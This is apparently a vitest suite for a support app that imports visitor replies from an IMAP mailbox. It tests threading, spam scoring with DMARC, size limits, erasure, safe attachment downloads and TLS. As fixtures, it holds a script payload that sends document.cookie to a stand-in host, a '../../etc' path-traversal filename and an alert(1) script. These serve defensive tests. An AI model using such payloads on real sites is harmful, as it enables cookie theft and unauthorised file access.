import { adminApiPaths, READINESS_PATH } from '@site/api-contract';
import { startTestDovecot, startTestSizeLyingImap } from '@site/testing/per-test';
import { simpleParser } from 'mailparser';
import { Writable } from 'node:stream';
import { getCACertificates, setDefaultCACertificates } from 'node:tls';
import { describe, expect, it, onTestFinished } from 'vitest';
import {
  answeredConversation,
  mailFrom,
  mailWithFiles,
  openMessage,
  type OpenedAnswer,
  poll,
} from '../test/mail-conversation.js';
import { queuesSettled } from '../test/settled-queues.js';
import { readRows } from '../test/stored-rows.js';
import { buildTestApp } from '../test/test-app.js';

/** A logger for the app that keeps its warnings, for a test to wait on what it says. */
function loggedWarnings() {
  const lines: string[] = [];
  const stream = new Writable({
    write(chunk, _encoding, done) {
      lines.push(String(chunk));
      done();
    },
  });
  return { lines, logger: { level: 'warn', stream } };
}

describe('mail that comes back', { timeout: 30_000 }, () => {
  it("files the visitor's answer in its thread, reopens the message, tells the company and flags the mail seen", async () => {
    const { dovecot, smtp, id, anna, reply, replyTo } = await answeredConversation();
    await dovecot.deliver(
      mailFrom(
        {
          From: 'Jane Doe <jane@example.com>',
          To: replyTo,
          Subject: 'Re: Pricing',
          'Message-ID': '<answer-1@example.com>',
          'In-Reply-To': reply.messageId!,
          References: `<message-${id}@test.example> ${reply.messageId}`,
        },
        'Thanks! Does that include SMS?\n\n> It is 20 a month.',
      ),
    );
    await poll(async () => (await openMessage(anna, id)).thread.answers.map((answer) => answer.text)).toEqual(
      ['Thanks! Does that include SMS?\n\n> It is 20 a month.'],
    );
    const opened = await openMessage(anna, id);
    expect(opened.message.status).toBe('new');
    expect(opened.thread.answers[0]).toMatchObject({ automatic: false, otherSender: false });
    await poll(async () => smtp.mails.filter((mail) => mail.raw.includes('Answer: Pricing')).length).toBe(1);
    const notice = await simpleParser(smtp.mails.find((mail) => mail.raw.includes('Answer: Pricing'))!.raw);
    expect(notice.to).toMatchObject({ text: 'support@test.example' });
    expect(notice.text).toContain('Does that include SMS?');
    await poll(async () => (await dovecot.list()).map((mail) => mail.flags)).toEqual([['\\Seen']]);
  });

  it('knows its conversation by the +token when a client drops the headers, and not by a forged one', async () => {
    const { dovecot, id, anna, replyTo, storage } = await answeredConversation();
    await dovecot.deliver(
      mailFrom(
        { From: 'jane@example.com', To: replyTo, Subject: 'Hello again', 'Message-ID': '<bare@example.com>' },
        'One more question.',
      ),
    );
    await poll(async () => (await openMessage(anna, id)).thread.answers.length).toBe(1);
    const forged = replyTo.replace(/\.[0-9a-f]{12}@/, '.000000000000@');
    await dovecot.deliver(
      mailFrom(
        { From: 'eve@example.net', To: forged, Subject: 'Let me in', 'Message-ID': '<forged@example.net>' },
        'Hi',
      ),
    );
    await poll(async () =>
      readRows(storage, "select email, source from messages where source = 'email'"),
    ).toEqual([{ email: 'eve@example.net', source: 'email' }]);
    expect((await openMessage(anna, id)).thread.answers).toHaveLength(1);
  });

  it('labels an automatic reply and one from another address, and an automatic one reopens nothing', async () => {
    const { dovecot, smtp, id, anna, reply, replyTo } = await answeredConversation();
    await dovecot.deliver(
      mailFrom(
        {
          From: 'jane@example.com',
          To: replyTo,
          Subject: 'Out of office',
          'Auto-Submitted': 'auto-replied',
          'Message-ID': '<ooo@example.com>',
          'In-Reply-To': reply.messageId!,
        },
        'I am away until Monday.',
      ),
    );
    await poll(async () => (await openMessage(anna, id)).thread.answers.length).toBe(1);
    expect((await openMessage(anna, id)).thread.answers[0]).toMatchObject({ automatic: true });
    expect((await openMessage(anna, id)).message.status).toBe('answered');
    await dovecot.deliver(
      mailFrom(
        {
          From: 'Jane at work <jane.doe@work.example>',
          To: replyTo,
          Subject: 'Re: Pricing',
          'Message-ID': '<work@example.com>',
        },
        'Writing from work.',
      ),
    );
    await poll(async () => (await openMessage(anna, id)).thread.answers.length).toBe(2);
    expect((await openMessage(anna, id)).thread.answers[1]).toMatchObject({
      automatic: false,
      otherSender: true,
      fromAddress: 'jane.doe@work.example',
    });
    await poll(async () => smtp.mails.filter((mail) => mail.raw.includes('Answer: ')).length).toBe(1);
  });

  it('makes a mail that names no conversation a message of its own, judged in three bands; a known sender whose DMARC failed as a stranger', async () => {
    const { dovecot, smtp, storage } = await answeredConversation();
    await dovecot.deliver(
      mailFrom(
        {
          From: 'Nikos <nikos@example.org>',
          To: 'support@test.example',
          Subject: 'CRM demo',
          'Message-ID': '<new@example.org>',
        },
        'Could we see a demo of the CRM next week?',
      ),
    );
    await dovecot.deliver(
      mailFrom(
        {
          From: 'seo@spam.example',
          To: 'support@test.example',
          Subject: 'Backlinks!!!!',
          'Message-ID': '<spam@spam.example>',
        },
        // An invisible character, markup and shortened links: spam from a sender nobody knows.
        '\u200b[url=https://bit.ly/x]Cheap backlinks[/url] https://bit.ly/y https://tinyurl.com/z',
      ),
    );
    // The same text from Jane, whom Anna answered: a known sender is at most possibly spam. Not when
    // DMARC failed: that mail may not be hers, and is judged as a stranger's.
    const fromJane = (dmarc: string, subject: string, messageId: string) =>
      mailFrom(
        {
          'Authentication-Results': `mx.test.example; dmarc=${dmarc} header.from=example.com`,
          From: 'Jane <jane@example.com>',
          To: 'support@test.example',
          Subject: subject,
          'Message-ID': messageId,
        },
        '\u200b[url=https://bit.ly/x]Cheap backlinks[/url] https://bit.ly/y https://tinyurl.com/z',
      );
    await dovecot.deliver([
      fromJane('pass', 'More backlinks', '<known@example.com>'),
      fromJane('fail', 'Backlinks from Jane?', '<forged@evil.example>'),
    ]);
    await poll(async () =>
      readRows(
        storage,
        "select email, subject, spam, spam_verdict, status, dmarc from messages where source = 'email' order by seq",
      ),
    ).toEqual([
      {
        email: 'nikos@example.org',
        subject: 'CRM demo',
        spam: 0,
        spam_verdict: 'not-spam',
        status: 'new',
        dmarc: null,
      },
      {
        email: 'seo@spam.example',
        subject: 'Backlinks!!!!',
        spam: 1,
        spam_verdict: 'spam',
        status: 'new',
        dmarc: null,
      },
      {
        email: 'jane@example.com',
        subject: 'More backlinks',
        spam: 0,
        spam_verdict: 'possibly-spam',
        status: 'new',
        dmarc: 'pass',
      },
      {
        email: 'jane@example.com',
        subject: 'Backlinks from Jane?',
        spam: 1,
        spam_verdict: 'spam',
        status: 'new',
        dmarc: 'fail',
      },
    ]);
    await poll(async () => smtp.mails.filter((mail) => mail.raw.includes('CRM demo')).length).toBe(1);
    await poll(
      async () =>
        smtp.mails.filter((mail) =>
          mail.raw.includes('Subject: [Possibly spam] [Test Company] More backlinks'),
        ).length,
    ).toBe(1);
    expect(smtp.mails.some((mail) => mail.raw.includes('Backlinks!!!!'))).toBe(false);
    expect(smtp.mails.some((mail) => mail.raw.includes('Backlinks from Jane?'))).toBe(false);
  });

  it('reads hostile mail as plain text: HTML made text, a mail over the limit left in the mailbox, junk survived', async () => {
    const { dovecot, storage, app } = await answeredConversation({ INBOUND_MAX_BYTES: '20000' });
    await dovecot.deliver(
      mailFrom(
        {
          From: 'html@example.org',
          To: 'support@test.example',
          Subject: 'HTML only',
          'Content-Type': 'text/html; charset=utf-8',
          'Message-ID': '<html@example.org>',
        },
        '<p>Hello <b>team</b></p><script>alert(1)</script><img src="https://tracker.example/x.gif">',
      ),
    );
    await dovecot.deliver(
      mailFrom(
        {
          From: 'big@example.org',
          To: 'support@test.example',
          Subject: 'Huge',
          'Message-ID': '<big@example.org>',
        },
        'x'.repeat(30_000),
      ),
    );
    await dovecot.deliver(Buffer.from([0, 1, 2, 255, 254, 13, 10, 13, 10, 0, 0, 0]));
    await dovecot.deliver(
      mailFrom(
        {
          From: 'after@example.org',
          To: 'support@test.example',
          Subject: 'After the junk',
          'Message-ID': '<after@example.org>',
        },
        'Still read.',
      ),
    );
    await poll(async () =>
      (await readRows(storage, "select subject from messages where source = 'email'")).map(
        (row) => row.subject,
      ),
    ).toContain('After the junk');
    const [html] = await readRows(storage, "select message from messages where subject = 'HTML only'");
    expect(html!.message).toContain('Hello team');
    expect(html!.message).not.toMatch(/<|script|tracker/);
    expect(await readRows(storage, "select id from messages where subject = 'Huge'")).toEqual([]);
    expect(
      (await dovecot.list()).some(
        (mail) => mail.messageId === '<big@example.org>' && !mail.flags.includes('\\Seen'),
      ),
    ).toBe(true);
    expect((await app.inject(READINESS_PATH)).statusCode).toBe(200);
  });

  it("does not believe the server's size: a mail it calls small but over the limit is fetched only to the limit, and left", async () => {
    const dovecot = await startTestDovecot();
    // Dovecot reports honest sizes; a proxy in front of it reports 100 bytes for every mail, and
    // changes nothing else. The mail is 2 MB, a hundred times the limit.
    const lying = await startTestSizeLyingImap(dovecot.url, 100);
    await dovecot.deliver([
      mailFrom(
        {
          From: 'big@example.org',
          To: 'support@test.example',
          Subject: 'Huge',
          'Message-ID': '<big@example.org>',
        },
        `${'x'.repeat(78)}\r\n`.repeat(25_000),
      ),
      mailFrom(
        {
          From: 'after@example.org',
          To: 'support@test.example',
          Subject: 'After',
          'Message-ID': '<after@example.org>',
        },
        'Still read.',
      ),
    ]);
    const { lines, logger } = loggedWarnings();
    const { storage } = await buildTestApp({ IMAP_URL: lying.url, INBOUND_MAX_BYTES: '20000' }, undefined, {
      logger,
    });
    await poll(async () => readRows(storage, "select subject from messages where source = 'email'")).toEqual([
      { subject: 'After' },
    ]);
    const left = lines.find((line) => line.includes('mail too large: left in the mailbox'));
    expect(JSON.parse(left!)).toMatchObject({ uid: 1, size: 20_001, limit: 20_000 });
    expect((await dovecot.list()).map((mail) => mail.flags)).toEqual([[], ['\\Seen']]);
    // No more than the limit and a byte of it came over the wire, not its 2 MB.
    expect(lying.bytesFromServer()).toBeLessThan(100_000);
  });

  it('imports every mail once with two instances on one mailbox, and moves them to IMAP_MOVE_TO', async () => {
    const { dovecot, storage } = await answeredConversation({ IMAP_MOVE_TO: 'Imported' });
    const second = await buildTestApp(
      { IMAP_URL: dovecot.url, IMAP_MOVE_TO: 'Imported' },
      undefined,
      undefined,
      storage,
    );
    expect(second.app).toBeDefined();
    for (let n = 0; n < 10; n++)
      await dovecot.deliver(
        mailFrom(
          {
            From: `visitor${n}@example.org`,
            To: 'support@test.example',
            Subject: `Question ${n}`,
            'Message-ID': `<q${n}@example.org>`,
          },
          `Question number ${n}.`,
        ),
      );
    await poll(async () => (await dovecot.list('Imported')).length).toBe(10);
    expect(await dovecot.list('INBOX')).toEqual([]);
    const rows = await readRows(
      storage,
      "select subject from messages where source = 'email' order by subject",
    );
    expect(rows.map((row) => row.subject)).toEqual(Array.from({ length: 10 }, (_, n) => `Question ${n}`));
    expect(await readRows(storage, 'select mail_key from imported_mails')).toHaveLength(10);
  });

  it("gives the visitor's answers in subject access and erases them, in the database and the folder they were moved to", async () => {
    const { dovecot, id, anna, replyTo, storage } = await answeredConversation({ IMAP_MOVE_TO: 'Imported' });
    await dovecot.deliver(
      mailFrom(
        { From: 'jane@example.com', To: replyTo, Subject: 'Re', 'Message-ID': '<a@example.com>' },
        'My answer.',
      ),
    );
    await dovecot.deliver(
      mailFrom(
        {
          From: 'other@example.org',
          To: 'support@test.example',
          Subject: 'Kept',
          'Message-ID': '<k@example.org>',
        },
        'Not about Jane.',
      ),
    );
    await poll(async () => (await dovecot.list('Imported')).map((mail) => mail.messageId)).toEqual([
      '<a@example.com>',
      '<k@example.org>',
    ]);
    const access = await anna.post(adminApiPaths.subjectAccess, { email: 'jane@example.com' });
    expect(access.json()).toMatchObject({ answers: [{ message_id: id, body: 'My answer.' }] });
    expect((await anna.post(adminApiPaths.eraseSubject, { email: 'jane@example.com' })).statusCode).toBe(200);
    expect(await readRows(storage, 'select * from inbound_mails')).toEqual([]);
    await poll(async () => (await dovecot.list('Imported')).map((mail) => mail.messageId)).toEqual([
      '<k@example.org>',
    ]);
    // The erased mail's key stays, naming no message and no one, so reading the mailbox again never brings it back.
    const keys = await readRows(
      storage,
      'select mail_key, message_id from imported_mails order by message_id',
    );
    expect(keys).toHaveLength(2);
    expect(keys.map((row) => row.message_id)).toContain(null);
    expect(JSON.stringify(keys)).not.toContain('example.com');
  });

  it('keeps the files of an answer within the cap and gives them to operators only as downloads', async () => {
    const { dovecot, id, anna, reply, replyTo, storage } = await answeredConversation({
      INBOUND_ATTACHMENT_MAX_BYTES: '5000',
    });
    const page = '<script>document.location="https://evil.example/?c="+document.cookie</script>';
    const pdf = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(2000, 7)]);
    await dovecot.deliver(
      await mailWithFiles({
        from: 'Jane Doe <jane@example.com>',
        to: replyTo,
        subject: 'Re: Pricing',
        inReplyTo: reply.messageId!,
        text: 'Our brief and a page.',
        attachments: [
          { filename: 'brief.pdf', content: pdf },
          { filename: '../../etc/évil "page".html', content: page, contentType: 'text/html' },
          { filename: 'video.mp4', content: Buffer.alloc(9000, 1) },
        ],
      }),
    );
    await poll(async () => (await openMessage(anna, id)).thread.answers.length).toBe(1);
    const [answer] = (await openMessage(anna, id)).thread.answers as OpenedAnswer[];
    expect(answer!.text).toBe('Our brief and a page.\n\n[Attachment left out: video.mp4, 9 kB]');
    expect(answer!.attachments.map(({ fileName, size }) => ({ fileName, size }))).toEqual([
      { fileName: 'brief.pdf', size: pdf.length },
      { fileName: 'évil "page".html', size: page.length },
    ]);
    const download = await anna.get(`${adminApiPaths.attachments}/${answer!.attachments[1]!.seq}`);
    expect(download.statusCode).toBe(200);
    expect(download.headers).toMatchObject({
      'content-type': 'application/octet-stream',
      'x-content-type-options': 'nosniff',
      'content-disposition': `attachment; filename="_vil _page_.html"; filename*=UTF-8''%C3%A9vil%20%22page%22.html`,
    });
    expect(download.headers['content-security-policy']).toContain('sandbox');
    expect(download.body).toBe(page);
    const pdfDownload = await anna.get(`${adminApiPaths.attachments}/${answer!.attachments[0]!.seq}`);
    expect(pdfDownload.rawPayload.equals(pdf)).toBe(true);
    expect((await anna.get(`${adminApiPaths.attachments}/999999`)).statusCode).toBe(404);
    expect((await anna.get(`${adminApiPaths.attachments}/x`)).statusCode).toBe(400);
    const audited = await readRows(
      storage,
      "select target from audit_log where action = 'download-attachment'",
    );
    expect(audited.map((row) => row.target)).toEqual([
      `${id} attachment:${answer!.attachments[1]!.seq}`,
      `${id} attachment:${answer!.attachments[0]!.seq}`,
    ]);
    expect((await anna.post(adminApiPaths.eraseSubject, { email: 'jane@example.com' })).statusCode).toBe(200);
    expect(await readRows(storage, 'select seq from attachments')).toEqual([]);
  });

  it('refuses attachments to anyone not signed in', async () => {
    const { app } = await buildTestApp();
    expect((await app.inject(`${adminApiPaths.attachments}/1`)).statusCode).toBe(401);
  });

  it('never imports its own mails that land in the mailbox it reads: no mail loop', async () => {
    const { dovecot, smtp, storage, id, replyTo } = await answeredConversation();
    await dovecot.deliver(
      mailFrom(
        {
          From: 'nikos@example.org',
          To: 'support@test.example',
          Subject: 'CRM demo',
          'Message-ID': '<n@example.org>',
        },
        'Could we see a demo?',
      ),
    );
    await dovecot.deliver(
      mailFrom(
        { From: 'jane@example.com', To: replyTo, Subject: 'Re: Pricing', 'Message-ID': '<j@example.com>' },
        'And for ten people?',
      ),
    );
    const company = () => smtp.mails.filter((mail) => mail.to.includes('support@test.example'));
    // The company's notifications of the form message, of the mail and of the answer.
    await poll(async () => company().length).toBe(3);
    expect(company().every((mail) => /^auto-submitted: auto-generated$/im.test(mail.raw))).toBe(true);
    // NOTIFY_TO is the mailbox the app reads, as by default: its mail server delivers them there.
    await dovecot.deliver(company().map((mail) => mail.raw));
    // The reader flags each mail it handled seen: its own mails too, once it has judged them.
    await poll(async () => (await dovecot.list()).map((mail) => mail.flags)).toEqual(
      Array.from({ length: 5 }, () => ['\\Seen']),
    );
    await queuesSettled(storage, 'outbox');
    expect(await readRows(storage, 'select id from messages order by seq')).toEqual([
      { id },
      { id: expect.any(String) },
    ]);
    expect(company()).toHaveLength(3);
  });

  it('reads an imaps:// mailbox over TLS, and reads nothing from a server whose certificate it cannot trust', async () => {
    const dovecot = await startTestDovecot({ tls: true });
    const question = mailFrom(
      {
        From: 'nikos@example.org',
        To: 'support@test.example',
        Subject: 'Over TLS',
        'Message-ID': '<tls@example.org>',
      },
      'Is this mailbox read safely?',
    );
    await dovecot.deliver(question);
    const { lines, logger } = loggedWarnings();
    const untrusted = await buildTestApp({ IMAP_URL: dovecot.url }, undefined, {
      logger,
    });
    await poll(async () => lines.find((line) => line.includes('mailbox not read'))).toMatch(/certificate/);
    expect(await readRows(untrusted.storage, 'select id from messages')).toEqual([]);
    expect((await dovecot.list()).flatMap((mail) => mail.flags)).not.toContain('\\Seen');
    await untrusted.app.close();

    // The company's mail server's certificate, trusted as a public CA's would be.
    const trusted = getCACertificates('default');
    setDefaultCACertificates([...trusted, dovecot.certificate!]);
    onTestFinished(() => setDefaultCACertificates(trusted));
    const { storage } = await buildTestApp({ IMAP_URL: dovecot.url });
    await poll(async () => readRows(storage, 'select subject from messages')).toEqual([
      { subject: 'Over TLS' },
    ]);
    await poll(async () => (await dovecot.list()).map((mail) => mail.flags)).toEqual([['\\Seen']]);
  });

  it('in production reads an imap:// mailbox only over STARTTLS: a server without it is not logged in to', async () => {
    const dovecot = await startTestDovecot();
    await dovecot.deliver(
      mailFrom(
        { From: 'nikos@example.org', Subject: 'In plain text?', 'Message-ID': '<p@example.org>' },
        'Hi',
      ),
    );
    const { lines, logger } = loggedWarnings();
    const { storage } = await buildTestApp(
      { NODE_ENV: 'production', APP_SECRET: 'a'.repeat(40), IMAP_URL: dovecot.url },
      undefined,
      { logger },
    );
    await poll(async () => lines.find((line) => line.includes('mailbox not read'))).toContain(
      'Server does not support STARTTLS',
    );
    expect(await readRows(storage, 'select id from messages')).toEqual([]);
    expect((await dovecot.list()).flatMap((mail) => mail.flags)).not.toContain('\\Seen');
  });
});
